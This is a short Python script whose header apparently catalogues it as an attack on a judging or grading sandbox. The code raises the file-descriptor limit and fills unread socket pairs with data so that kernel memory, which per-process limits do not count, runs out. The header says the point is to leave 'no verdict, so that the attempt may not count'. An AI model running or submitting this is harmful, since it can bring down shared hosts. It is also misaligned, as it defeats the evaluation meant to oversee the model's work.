# ---
# tries: Fills sockets that nobody reads, which take memory of the kernel that no limit of a process counts.
# place: instead
# gain: no verdict, so that the attempt may not count
# helps: kernel-memory
# ---
import resource, socket, time

most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
block = b"x" * 65536
kept = []
try:
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        for each in pair:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
            each.setblocking(False)
            try:
                while True:
                    each.send(block)
            except BlockingIOError:
                pass
except OSError:
    time.sleep(5)
